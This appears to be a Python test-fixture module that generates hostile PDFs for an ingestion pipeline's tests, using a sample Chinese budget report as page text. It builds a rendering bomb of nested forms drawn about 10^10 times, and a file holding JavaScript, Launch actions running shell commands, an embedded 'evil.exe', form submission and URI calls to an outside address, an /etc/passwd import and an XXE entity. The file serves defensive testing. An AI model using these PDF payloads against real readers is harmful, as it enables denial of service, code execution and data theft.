"""PDF files that are made to do harm: pages that explode when they are drawn, scripts, programs to start, addresses to fetch."""

from pathlib import Path

from tests.ingest.pdf_maker import FONT, text, write_pdf

CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
COVER = text(150, 700, "某某区财政局2024年度部门决算", 20).encode()
BODY = text(100, 700, "本年度一般公共预算财政拨款支出12.50万元。").encode()
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 3 0 R>>%s>>/Contents %d 0 R%s>>"


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), entries, content)


def exploding(path: Path) -> Path:
    """A cover and a page with a figure. What is drawn on the second goes through a mask that is drawn 10¹⁰ times: whoever
    reads its text sees nothing of that."""
    entries = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
    forms = [stream(b"/X Do " * 10, entries + b"/Resources<</XObject<</X %d 0 R>>>>" % number) for number in range(10, 19)]
    mask = stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Group<</S/Transparency/CS/DeviceGray>>/Resources<</XObject<</X 9 0 R>>>>")
    pages = [PAGE % (b"", 6, b""), PAGE % (b"/ExtGState<</M<</SMask<</S/Luminosity/G 8 0 R>>>>>>", 7, b"")]
    contents = [stream(COVER), stream(BODY + b" /M gs 0 0 5 5 re f")]
    return write_pdf(path, [CATALOG, b"<</Type/Pages/Count 2/Kids[4 0 R 5 0 R]>>", FONT, *pages, *contents, mask, *forms, stream(b"0 0 1 1 re f", entries)])


def active(path: Path, address: str, trap: Path) -> Path:
    """A page with a figure, and all that a PDF may hold to make its reader do something: `address` would be fetched, `trap` be
    made."""
    js = b"(var evil = 99; app.launchURL\\('%s/js'\\); this.exportDataObject\\({cName: 'evil.exe', nLaunch: 2}\\))" % address.encode()
    script, launch = b"<</S/JavaScript/JS%s>>" % js, b"<</S/Launch/F(/bin/touch)/Unix<</F(/bin/touch)/P(%s)>>/Win<</F(cmd.exe)/P(%s)>>>>" % ((str(trap).encode(),) * 2)
    away = b"<</S/GoToR/F<</Type/Filespec/FS/URL/F(%s/remote.pdf)>>/D[0/Fit]>>" % address.encode()
    link, submit = b"<</S/URI/URI(%s/uri)>>" % address.encode(), b"<</S/SubmitForm/F<</FS/URL/F(%s/submit)>>>>" % address.encode()
    import_data = b"<</S/ImportData/F(/etc/passwd)>>"
    places = enumerate((script, launch, away, link, submit, import_data))
    annots = b"".join(b"<</Type/Annot/Subtype/Link/Rect[%d 10 %d 30]/A%s/AA<</E%s/PO%s>>>>" % (n * 30, n * 30 + 20, act, act, act) for n, act in places)
    field = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(evil)/Rect[10 50 90 70]/AA<</K%s/F%s/C%s>>>>" % (script, script, script)
    actions = b"/Annots[%s%s]/AA<</O%s/C%s>>" % (annots, field, launch, script)
    outside = stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F<</FS/URL/F(%s/xobject)>>/FFilter[/FlateDecode]" % address.encode())
    referred = stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F<</FS/URL/F(%s/reference.pdf)>>/Page 0>>" % address.encode())
    packet = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>evil</script><!DOCTYPE x [<!ENTITY e SYSTEM '%s/xfa'>]>&e;</xdp:xdp>" % address.encode()
    names = b"<</JavaScript<</Names[(a)%s]>>/EmbeddedFiles<</Names[(evil.exe)<</Type/Filespec/F(evil.exe)/EF<</F 11 0 R>>>>]>>>>" % script
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction%s/AA<</WC%s/DC%s>>/Names%s/AcroForm<</XFA 10 0 R/Fields[]>>>>" % (script, script, launch, names)
    resources = b"/XObject<</O 8 0 R/R 9 0 R>>"
    return write_pdf(
        path, [catalog, b"<</Type/Pages/Count 2/Kids[4 0 R 5 0 R]>>", FONT, PAGE % (resources, 6, actions), PAGE % (resources, 7, actions),
               stream(COVER + b" /O Do /R Do"), stream(BODY + b" /O Do /R Do"), outside, referred, stream(packet), stream(b"MZ evil", b"/Type/EmbeddedFile")],
    )  # fmt: skip
